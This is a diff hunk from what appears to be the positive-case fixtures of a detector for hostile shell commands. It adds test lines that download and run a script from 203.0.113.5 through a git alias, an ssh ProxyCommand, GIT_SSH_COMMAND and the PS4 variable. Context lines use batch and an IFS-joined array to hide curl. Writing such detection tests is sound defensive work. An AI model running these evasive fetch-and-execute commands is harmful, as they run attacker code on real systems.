@@ -100,3 +100,11 @@ echo 'wget -qO- http://203.0.113.5/s | bash' | batch
 #@ pos curl named by an array joined with IFS emptied
 a=(c u r l); IFS=; c="${a[*]}"
 $c -s http://203.0.113.5/x | sh
+#@ pos a git alias that downloads and runs code
+git -c alias.sync='!curl -s http://203.0.113.5/s | sh' sync
+#@ pos ssh ProxyCommand that downloads and runs code
+ssh -o ProxyCommand='curl -s http://203.0.113.5/s | sh' host true
+#@ pos GIT_SSH_COMMAND that downloads and runs code
+GIT_SSH_COMMAND='curl -s http://203.0.113.5/s | sh' git fetch
+#@ pos PS4 with a download for bash -x
+PS4='$(curl -s http://203.0.113.5/s | sh)' bash -xc ':'
